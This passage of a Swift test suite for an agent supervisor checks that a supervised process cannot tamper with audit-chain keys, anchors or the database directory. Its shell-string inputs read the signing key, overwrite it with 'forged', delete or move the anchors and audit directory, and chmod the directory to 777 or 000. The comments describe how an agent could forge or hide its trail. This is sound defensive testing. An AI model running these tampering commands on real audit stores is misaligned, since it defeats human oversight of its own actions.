        #expect(h.cli(["sessions"]).stdout == "no sessions\n")
        let verify = h.cli(["audit", "verify"])
        #expect(verify.status == 0, "\(verify.stdout)")
        #expect(verify.stdout.contains("retention anchor"))
        #expect(h.supervised(["true"], policy: policy, extra: ["--session", "third"]).status == 0)
        #expect(h.cli(["audit", "verify"]).status == 0)
    }
}

/// The chain's key and anchors (`<db>.key`, `<db>.anchors`) are the supervisor's files, like
/// the database: an agent that could read the key could forge links, and one that could
/// rewrite the anchors could hide a rewrite.
@Suite struct ChainKeyProtectionTests {
    let policy = """
        version: 1
        default: allow
        rules: []
        """

    @Test func theAgentCanNeitherReadNorReplaceTheKeyOrTheAnchors() throws {
        let h = try Harness()
        let policy = try h.policy(self.policy)
        #expect(h.supervised(["true"], policy: policy).status == 0)
        let key = h.db + ".key"
        let anchors = h.db + ".anchors"
        let keyBefore = try String(contentsOfFile: key, encoding: .utf8)
        let anchorsBefore = try String(contentsOfFile: anchors, encoding: .utf8)
        #expect(keyBefore.hasPrefix("agentgate-audit-key 1\n"))
        #expect(anchorsBefore.split(separator: "\n").count == 1)

        let script = """
            cat \(key); cat \(anchors); echo forged > \(key); echo '{}' >> \(anchors); rm -f \(key) \(anchors)
            mv \(anchors) \(h.path("moved")); ln \(key) \(h.path("linked")); cp \(key) \(h.path("copied")); echo done
            """
        let result = h.supervised(["sh", "-c", script], policy: policy)
        #expect(result.stdout == "done\n", "\(result.stderr)")
        #expect(result.stderr.contains("cat: \(key): Permission denied"), "\(result.stderr)")
        #expect(result.stderr.contains("cat: \(anchors): Permission denied"), "\(result.stderr)")
        #expect(try String(contentsOfFile: key, encoding: .utf8) == keyBefore)
        let anchorsAfter = try String(contentsOfFile: anchors, encoding: .utf8)
        #expect(anchorsAfter.hasPrefix(anchorsBefore) && anchorsAfter.split(separator: "\n").count == 2)
        #expect(!h.exists("moved") && !h.exists("linked"))
        let copied = (try? String(contentsOfFile: h.path("copied"), encoding: .utf8)) ?? ""
        #expect(copied.isEmpty)
        let verify = h.cli(["audit", "verify"])
        #expect(verify.status == 0, "\(verify.stdout)")
        #expect(verify.stdout.contains("anchors: 2 session heads"), "\(verify.stdout)")
    }

    /// The default database's directory itself (~/.local/share/agentgate): chmod 000 of it would
    /// stop every later session from recording, chmod 777 would let other users replace its
    /// files. What is inside is decided as usual; a directory named with --db is the user's.
    @Test func theAgentCantChangeTheDatabasesDirectory() throws {
        let h = try Harness()
        let policy = try h.policy(self.policy)
        let home = h.path("home")
        try FileManager.default.createDirectory(atPath: home, withIntermediateDirectories: true)
        let environment = ["PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": home]
        let directory = home + "/.local/share/agentgate"
        #expect(h.run([Harness.supervisor, "-q", "--policy", policy, "--", "true"], environment: environment).status == 0)
        let mode = try #require(try? FileManager.default.attributesOfItem(atPath: directory)[.posixPermissions] as? Int)
        let script = "chmod 777 '\(directory)'; chmod 000 '\(directory)'; touch '\(directory)'; mkdir -p '\(directory)'; echo x > '\(directory)/other.txt'; echo done"
        let result = h.run([Harness.supervisor, "-q", "--policy", policy, "--", "sh", "-c", script], environment: environment)
        #expect(result.stdout == "done\n", "\(result)")
        #expect(result.stderr.components(separatedBy: "Permission denied").count == 4, "chmod twice and touch: \(result.stderr)")
        #expect((try FileManager.default.attributesOfItem(atPath: directory)[.posixPermissions] as? Int) == mode)
        #expect(FileManager.default.fileExists(atPath: directory + "/other.txt"), "a file in the directory is decided as usual")
        #expect(h.run([Harness.supervisor, "-q", "--policy", policy, "--", "true"], environment: environment).status == 0,
                "the next session records")
        // --db's directory is the user's: its mode and times are the policy's to decide.
        let own = h.supervised(["sh", "-c", "touch '\(h.dir)' && chmod 755 '\(h.dir)' && echo ok"], policy: policy)
        #expect(own.stdout == "ok\n", "\(own)")
    }

    /// A session recording elsewhere (--db) keeps its hands off the user's default database
    /// too: its key (with it, a trail could be forged), its files, and its directory (found by
    /// review: the key could be read and broken, and the directory moved away).
    @Test func aSessionWithItsOwnDatabaseCantReachTheDefaultOne() throws {
        let h = try Harness()
        let policy = try h.policy(self.policy)
        let home = h.path("home")
        try FileManager.default.createDirectory(atPath: home, withIntermediateDirectories: true)
        let environment = ["PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": home]
        let directory = home + "/.local/share/agentgate"
        #expect(h.run([Harness.supervisor, "-q", "--policy", policy, "--", "true"], environment: environment).status == 0)
        let key = directory + "/agentgate.db.key"
        let original = try String(contentsOfFile: key, encoding: .utf8)
        let script = "cat '\(key)' >/dev/null && echo read; echo x >> '\(key)' && echo appended; "
            + "mv '\(directory)' '\(home)/moved' && echo moved; cat '\(directory)/agentgate.db' >/dev/null && echo db; echo done"
        // Bare, each step works.
        let bare = h.run(["sh", "-c", script], environment: environment)
        #expect(bare.stdout == "read\nappended\nmoved\ndone\n", "\(bare)")
        try FileManager.default.moveItem(atPath: home + "/moved", toPath: directory)
        try original.write(toFile: key, atomically: false, encoding: .utf8)
        let result = h.run([Harness.supervisor, "-q", "--policy", policy, "--db", h.path("own.db"), "--", "sh", "-c", script],
                           environment: environment)
        #expect(result.stdout == "done\n", "\(result)")
        #expect(try String(contentsOfFile: key, encoding: .utf8) == original)
        #expect(h.run([Harness.supervisor, "-q", "--policy", policy, "--", "true"], environment: environment).status == 0,
                "the default database still records")
    }

    @Test func databaseMaxSizeRemovesTheOldestEndedSessionsAtStart() throws {
        let h = try Harness()
        let policy = try h.policy(self.policy)
        for index in 0..<3 {
            #expect(h.supervised(["sh", "-c", "cat /etc/hostname /etc/hostname"], policy: policy,
                                 extra: ["-q", "--session", "old-\(index)"]).status == 0)
        }
        let result = h.supervised(["true"], policy: policy, extra: ["--db-max-size", "1K", "--session", "new"])
        #expect(result.status == 0)
        #expect(result.stderr.contains("the audit database was over 1K: removed its 3 oldest ended sessions"), "\(result.stderr)")
        #expect(h.query("select id from sessions").map { $0.first ?? "" } == ["new"])
        let verify = h.cli(["audit", "verify"])
        #expect(verify.status == 0, "\(verify.stdout)")
        let bad = h.supervised(["true"], policy: policy, extra: ["--db-max-size", "lots"])
        #expect(bad.status == 2 && bad.stderr.contains("expected a size like 500M"), "\(bad.stderr)")
    }
}

/// Every per-process table of the supervisor is bounded and let go of as processes exit
/// (the bounds: README, "Limits"). AGENTGATE_DEBUG_TABLE_SIZES makes the supervisor print what
/// its tables hold at the session's end, after sweeping the exited processes' entries.
@Suite struct ProcessTableBoundsTests {
    @Test func tenThousandForksAndAThousandExecsLeaveTheTablesAtTheirIdleSize() throws {
        let h = try Harness()
        let policy = try h.policy("version: 1\ndefault: allow\nrules: []\n")
        try """
            import os
            for i in range(10000):
                pid = os.fork()
                if pid == 0:
                    open('/etc/hostname').close()
                    os._exit(0)
                os.waitpid(pid, 0)
            for i in range(1000):
                pid = os.fork()
                if pid == 0:
                    os.execv('/bin/true', ['true'])
                os.waitpid(pid, 0)
            print('done')
            """.write(toFile: h.path("forks.py"), atomically: true, encoding: .utf8)
        // Only this supervisor's environment: tests run in parallel in this process.
        var environment = ProcessInfo.processInfo.environment
        environment["AGENTGATE_DEBUG_TABLE_SIZES"] = "1"
        let result = h.run([Harness.supervisor, "--policy", policy, "--db", h.db, "--", "python3", h.path("forks.py")],
                           environment: environment, timeout: 300)
        #expect(result.status == 0 && result.stdout == "done\n", "\(result.stderr.suffix(2000))")
        let line = result.stderr.split(separator: "\n").first { $0.contains("table sizes:") }.map(String.init) ?? ""
        print(line)
        var sizes: [String: Int] = [:]
        for match in line.matches(of: #/([a-z-]+)=([0-9]+)/#) { sizes[String(match.1)] = Int(match.2) }
        #expect(sizes.count == 7, "\(result.stderr.suffix(2000))")
        #expect((sizes["pidfds"] ?? .max) <= 1)
        #expect((sizes["pending-exec-checks"] ?? .max) <= 1)
        #expect((sizes["loader-programs"] ?? .max) <= 1)
        #expect((sizes["approved-images"] ?? .max) <= 16)
        #expect((sizes["contexts"] ?? .max) <= 4096)
        #expect((sizes["command-histories"] ?? .max) <= 8192)
        #expect((sizes["open-process-records"] ?? .max) <= 8193)
    }
}

/// Decisions stored for a session: its event rows, and the reads its read aggregates stand for.
func storedDecisionsSQL(_ session: String) -> String {
    """
    select (select count(*) from events where session_id = '\(session)')
         + (select coalesce(sum(e.count), 0) from read_entries e join read_sets s on s.id = e.set_id
            where s.session_id = '\(session)')
    """
}
